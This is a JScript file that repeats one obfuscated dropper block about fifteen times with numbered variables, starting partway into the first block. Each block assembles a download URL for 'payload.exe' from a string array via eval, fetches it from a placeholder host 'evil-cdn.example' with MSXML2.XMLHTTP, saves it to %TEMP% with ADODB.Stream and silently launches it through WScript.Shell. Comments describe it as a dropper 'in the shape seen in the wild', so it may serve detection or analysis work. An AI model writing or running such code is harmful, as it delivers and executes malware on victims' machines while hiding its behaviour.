function p25(i) { return parts25[i]; }
var host25 = eval("p25(1) + p25(6)");
var url25 = eval("'" + p25(0).replace("xx", "tt") + "://' + host25 + p25(7) + p25(2)");
var shell25 = new ActiveXObject(p25(5));
var target25 = shell25.ExpandEnvironmentStrings("%TEMP%") + "\\" + p25(2);
var xhr25 = new ActiveXObject(p25(3));
xhr25.open("GET", url25, false);
xhr25.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr25.send();
if (xhr25.status == 200) {
  var stream25 = new ActiveXObject(p25(4));
  stream25.Open();
  stream25.Type = 1;
  stream25.Write(xhr25.responseBody);
  stream25.Position = 0;
  stream25.SaveToFile(target25, 2);
  stream25.Close();
  shell25.Run("cmd.exe /c start \"\" \"" + target25 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts26 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p26(i) { return parts26[i]; }
var host26 = eval("p26(1) + p26(6)");
var url26 = eval("'" + p26(0).replace("xx", "tt") + "://' + host26 + p26(7) + p26(2)");
var shell26 = new ActiveXObject(p26(5));
var target26 = shell26.ExpandEnvironmentStrings("%TEMP%") + "\\" + p26(2);
var xhr26 = new ActiveXObject(p26(3));
xhr26.open("GET", url26, false);
xhr26.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr26.send();
if (xhr26.status == 200) {
  var stream26 = new ActiveXObject(p26(4));
  stream26.Open();
  stream26.Type = 1;
  stream26.Write(xhr26.responseBody);
  stream26.Position = 0;
  stream26.SaveToFile(target26, 2);
  stream26.Close();
  shell26.Run("cmd.exe /c start \"\" \"" + target26 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts27 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p27(i) { return parts27[i]; }
var host27 = eval("p27(1) + p27(6)");
var url27 = eval("'" + p27(0).replace("xx", "tt") + "://' + host27 + p27(7) + p27(2)");
var shell27 = new ActiveXObject(p27(5));
var target27 = shell27.ExpandEnvironmentStrings("%TEMP%") + "\\" + p27(2);
var xhr27 = new ActiveXObject(p27(3));
xhr27.open("GET", url27, false);
xhr27.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr27.send();
if (xhr27.status == 200) {
  var stream27 = new ActiveXObject(p27(4));
  stream27.Open();
  stream27.Type = 1;
  stream27.Write(xhr27.responseBody);
  stream27.Position = 0;
  stream27.SaveToFile(target27, 2);
  stream27.Close();
  shell27.Run("cmd.exe /c start \"\" \"" + target27 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts28 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p28(i) { return parts28[i]; }
var host28 = eval("p28(1) + p28(6)");
var url28 = eval("'" + p28(0).replace("xx", "tt") + "://' + host28 + p28(7) + p28(2)");
var shell28 = new ActiveXObject(p28(5));
var target28 = shell28.ExpandEnvironmentStrings("%TEMP%") + "\\" + p28(2);
var xhr28 = new ActiveXObject(p28(3));
xhr28.open("GET", url28, false);
xhr28.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr28.send();
if (xhr28.status == 200) {
  var stream28 = new ActiveXObject(p28(4));
  stream28.Open();
  stream28.Type = 1;
  stream28.Write(xhr28.responseBody);
  stream28.Position = 0;
  stream28.SaveToFile(target28, 2);
  stream28.Close();
  shell28.Run("cmd.exe /c start \"\" \"" + target28 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts29 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p29(i) { return parts29[i]; }
var host29 = eval("p29(1) + p29(6)");
var url29 = eval("'" + p29(0).replace("xx", "tt") + "://' + host29 + p29(7) + p29(2)");
var shell29 = new ActiveXObject(p29(5));
var target29 = shell29.ExpandEnvironmentStrings("%TEMP%") + "\\" + p29(2);
var xhr29 = new ActiveXObject(p29(3));
xhr29.open("GET", url29, false);
xhr29.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr29.send();
if (xhr29.status == 200) {
  var stream29 = new ActiveXObject(p29(4));
  stream29.Open();
  stream29.Type = 1;
  stream29.Write(xhr29.responseBody);
  stream29.Position = 0;
  stream29.SaveToFile(target29, 2);
  stream29.Close();
  shell29.Run("cmd.exe /c start \"\" \"" + target29 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts30 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p30(i) { return parts30[i]; }
var host30 = eval("p30(1) + p30(6)");
var url30 = eval("'" + p30(0).replace("xx", "tt") + "://' + host30 + p30(7) + p30(2)");
var shell30 = new ActiveXObject(p30(5));
var target30 = shell30.ExpandEnvironmentStrings("%TEMP%") + "\\" + p30(2);
var xhr30 = new ActiveXObject(p30(3));
xhr30.open("GET", url30, false);
xhr30.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr30.send();
if (xhr30.status == 200) {
  var stream30 = new ActiveXObject(p30(4));
  stream30.Open();
  stream30.Type = 1;
  stream30.Write(xhr30.responseBody);
  stream30.Position = 0;
  stream30.SaveToFile(target30, 2);
  stream30.Close();
  shell30.Run("cmd.exe /c start \"\" \"" + target30 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts31 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p31(i) { return parts31[i]; }
var host31 = eval("p31(1) + p31(6)");
var url31 = eval("'" + p31(0).replace("xx", "tt") + "://' + host31 + p31(7) + p31(2)");
var shell31 = new ActiveXObject(p31(5));
var target31 = shell31.ExpandEnvironmentStrings("%TEMP%") + "\\" + p31(2);
var xhr31 = new ActiveXObject(p31(3));
xhr31.open("GET", url31, false);
xhr31.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr31.send();
if (xhr31.status == 200) {
  var stream31 = new ActiveXObject(p31(4));
  stream31.Open();
  stream31.Type = 1;
  stream31.Write(xhr31.responseBody);
  stream31.Position = 0;
  stream31.SaveToFile(target31, 2);
  stream31.Close();
  shell31.Run("cmd.exe /c start \"\" \"" + target31 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts32 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p32(i) { return parts32[i]; }
var host32 = eval("p32(1) + p32(6)");
var url32 = eval("'" + p32(0).replace("xx", "tt") + "://' + host32 + p32(7) + p32(2)");
var shell32 = new ActiveXObject(p32(5));
var target32 = shell32.ExpandEnvironmentStrings("%TEMP%") + "\\" + p32(2);
var xhr32 = new ActiveXObject(p32(3));
xhr32.open("GET", url32, false);
xhr32.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr32.send();
if (xhr32.status == 200) {
  var stream32 = new ActiveXObject(p32(4));
  stream32.Open();
  stream32.Type = 1;
  stream32.Write(xhr32.responseBody);
  stream32.Position = 0;
  stream32.SaveToFile(target32, 2);
  stream32.Close();
  shell32.Run("cmd.exe /c start \"\" \"" + target32 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts33 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p33(i) { return parts33[i]; }
var host33 = eval("p33(1) + p33(6)");
var url33 = eval("'" + p33(0).replace("xx", "tt") + "://' + host33 + p33(7) + p33(2)");
var shell33 = new ActiveXObject(p33(5));
var target33 = shell33.ExpandEnvironmentStrings("%TEMP%") + "\\" + p33(2);
var xhr33 = new ActiveXObject(p33(3));
xhr33.open("GET", url33, false);
xhr33.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr33.send();
if (xhr33.status == 200) {
  var stream33 = new ActiveXObject(p33(4));
  stream33.Open();
  stream33.Type = 1;
  stream33.Write(xhr33.responseBody);
  stream33.Position = 0;
  stream33.SaveToFile(target33, 2);
  stream33.Close();
  shell33.Run("cmd.exe /c start \"\" \"" + target33 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts34 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p34(i) { return parts34[i]; }
var host34 = eval("p34(1) + p34(6)");
var url34 = eval("'" + p34(0).replace("xx", "tt") + "://' + host34 + p34(7) + p34(2)");
var shell34 = new ActiveXObject(p34(5));
var target34 = shell34.ExpandEnvironmentStrings("%TEMP%") + "\\" + p34(2);
var xhr34 = new ActiveXObject(p34(3));
xhr34.open("GET", url34, false);
xhr34.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr34.send();
if (xhr34.status == 200) {
  var stream34 = new ActiveXObject(p34(4));
  stream34.Open();
  stream34.Type = 1;
  stream34.Write(xhr34.responseBody);
  stream34.Position = 0;
  stream34.SaveToFile(target34, 2);
  stream34.Close();
  shell34.Run("cmd.exe /c start \"\" \"" + target34 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts35 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p35(i) { return parts35[i]; }
var host35 = eval("p35(1) + p35(6)");
var url35 = eval("'" + p35(0).replace("xx", "tt") + "://' + host35 + p35(7) + p35(2)");
var shell35 = new ActiveXObject(p35(5));
var target35 = shell35.ExpandEnvironmentStrings("%TEMP%") + "\\" + p35(2);
var xhr35 = new ActiveXObject(p35(3));
xhr35.open("GET", url35, false);
xhr35.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr35.send();
if (xhr35.status == 200) {
  var stream35 = new ActiveXObject(p35(4));
  stream35.Open();
  stream35.Type = 1;
  stream35.Write(xhr35.responseBody);
  stream35.Position = 0;
  stream35.SaveToFile(target35, 2);
  stream35.Close();
  shell35.Run("cmd.exe /c start \"\" \"" + target35 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts36 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p36(i) { return parts36[i]; }
var host36 = eval("p36(1) + p36(6)");
var url36 = eval("'" + p36(0).replace("xx", "tt") + "://' + host36 + p36(7) + p36(2)");
var shell36 = new ActiveXObject(p36(5));
var target36 = shell36.ExpandEnvironmentStrings("%TEMP%") + "\\" + p36(2);
var xhr36 = new ActiveXObject(p36(3));
xhr36.open("GET", url36, false);
xhr36.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr36.send();
if (xhr36.status == 200) {
  var stream36 = new ActiveXObject(p36(4));
  stream36.Open();
  stream36.Type = 1;
  stream36.Write(xhr36.responseBody);
  stream36.Position = 0;
  stream36.SaveToFile(target36, 2);
  stream36.Close();
  shell36.Run("cmd.exe /c start \"\" \"" + target36 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts37 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p37(i) { return parts37[i]; }
var host37 = eval("p37(1) + p37(6)");
var url37 = eval("'" + p37(0).replace("xx", "tt") + "://' + host37 + p37(7) + p37(2)");
var shell37 = new ActiveXObject(p37(5));
var target37 = shell37.ExpandEnvironmentStrings("%TEMP%") + "\\" + p37(2);
var xhr37 = new ActiveXObject(p37(3));
xhr37.open("GET", url37, false);
xhr37.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr37.send();
if (xhr37.status == 200) {
  var stream37 = new ActiveXObject(p37(4));
  stream37.Open();
  stream37.Type = 1;
  stream37.Write(xhr37.responseBody);
  stream37.Position = 0;
  stream37.SaveToFile(target37, 2);
  stream37.Close();
  shell37.Run("cmd.exe /c start \"\" \"" + target37 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts38 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p38(i) { return parts38[i]; }
var host38 = eval("p38(1) + p38(6)");
var url38 = eval("'" + p38(0).replace("xx", "tt") + "://' + host38 + p38(7) + p38(2)");
var shell38 = new ActiveXObject(p38(5));
var target38 = shell38.ExpandEnvironmentStrings("%TEMP%") + "\\" + p38(2);
var xhr38 = new ActiveXObject(p38(3));
xhr38.open("GET", url38, false);
xhr38.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr38.send();
if (xhr38.status == 200) {
  var stream38 = new ActiveXObject(p38(4));
  stream38.Open();
  stream38.Type = 1;
  stream38.Write(xhr38.responseBody);
  stream38.Position = 0;
  stream38.SaveToFile(target38, 2);
  stream38.Close();
  shell38.Run("cmd.exe /c start \"\" \"" + target38 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
// A JScript dropper in the shape seen in the wild: the URL and the object names are hidden in
// a shuffled string array and assembled through eval, the payload is fetched with
// MSXML2.XMLHTTP, written with ADODB.Stream and started with WScript.Shell.
var parts39 = ["hxxp", "evil-cdn", "payload.exe", "MSXML2.XMLHTTP", "ADODB.Stream", "WScript.Shell", ".example", "/files/"];
function p39(i) { return parts39[i]; }
var host39 = eval("p39(1) + p39(6)");
var url39 = eval("'" + p39(0).replace("xx", "tt") + "://' + host39 + p39(7) + p39(2)");
var shell39 = new ActiveXObject(p39(5));
var target39 = shell39.ExpandEnvironmentStrings("%TEMP%") + "\\" + p39(2);
var xhr39 = new ActiveXObject(p39(3));
xhr39.open("GET", url39, false);
xhr39.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)");
xhr39.send();
if (xhr39.status == 200) {
  var stream39 = new ActiveXObject(p39(4));
  stream39.Open();
  stream39.Type = 1;
  stream39.Write(xhr39.responseBody);
  stream39.Position = 0;
  stream39.SaveToFile(target39, 2);
  stream39.Close();
  shell39.Run("cmd.exe /c start \"\" \"" + target39 + "\"", 0, false);
} else {
  WScript.Echo("fallback");
}
